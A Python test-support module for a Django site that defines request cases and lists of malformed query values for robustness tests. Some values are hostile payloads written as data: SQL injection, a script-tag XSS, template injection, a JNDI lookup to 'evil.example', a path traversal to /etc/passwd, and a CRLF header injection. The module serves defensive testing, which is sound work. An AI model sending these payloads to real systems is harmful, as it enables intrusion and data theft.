"""What a case of the tables is: a request, and what it is answered with."""

from enum import Enum
from typing import NamedTuple

from django.conf import settings
from django.utils.translation import gettext, override

# Text that means nothing to us, as it stands in a query; each is something else that breaks software.
NONSENSE = {
    "a word": "xyzzy",
    "nine thousand letters": "x" * 9000,
    "five thousand digits": "9" * 5000,
    "a negative number": "-1",
    "a number beyond 64 bits": "99999999999999999999",
    "a fraction": "1.5",
    "an exponent": "1e9",
    "not a number": "NaN",
    "infinity": "Infinity",
    "Arabic digits": "%D9%A1%D9%A2",
    "full-width digits": "%EF%BC%91",
    "underscored digits": "1_0",
    "a direction override": "%E2%80%AEgnp",
    "a lone surrogate": "%ED%A0%80",
    "bytes that are no UTF-8": "%FF%FE",
    "an overlong slash": "%C0%AF",
    "an emoji": "%F0%9F%98%80",
    "SQL": "%27%20OR%201%3D1--",
    "markup": "%3Cscript%3Ealert(1)%3C/script%3E",
    "a template": "%7B%7B7*7%7D%7D",
    "a format": "%25(name)s%25n%7B0%7D",
    "a look-up": "$%7Bjndi:ldap://evil.example/%7D",
    "a path": "../../../../etc/passwd",
    "a constant": "None",
    "brackets": "[]",
    "half an escape": "%zz",
}
# What is no text at all.
NO_TEXT = {
    "nul": "%00",
    "nul inside": "a%00b",
    "new lines": "a%0D%0ASet-Cookie:%20a=b",
    "an escape sequence": "a%1B[31m",
    "delete": "a%7Fb",
}


class Kind(Enum):
    """In which form something is answered."""

    PROBLEM = "problem+json"
    DATA = "data for programs"
    EMBED = "an embed page"
    SITE = "a page of the site"
    EDITOR = "a page of the editor"
    SCRIPT = "JSON for a script of the editor"
    MOVED = "a redirect"
    NOTHING = "no body"


class Case(NamedTuple):
    """A request and its answer: status, form, and a piece of the sentence in it."""

    target: str
    status: int
    kind: Kind
    says: str = ""
    method: str = "GET"
    headers: tuple[tuple[str, str | None], ...] = ()
    body: bytes = b""

    def __str__(self):
        """Return what names the case in a report."""
        shown = f"{self.method} {self.target}"
        sent = ", ".join(f"{name}: {value!r:.30}" for name, value in self.headers)
        return f"{shown[:70]} {sent}{' + body' if self.body else ''}".strip()


def said_by_files(sentence):
    """Return a whole sentence as those who choose no language read it: in the first one of the site."""
    with override(settings.LANGUAGE_CODE):
        return gettext(sentence)


def named(cases):
    """Return the names of cases for pytest: short, in ASCII, and different."""
    return [f"{number} {ascii(str(case))[1:-1]}" for number, case in enumerate(cases)]
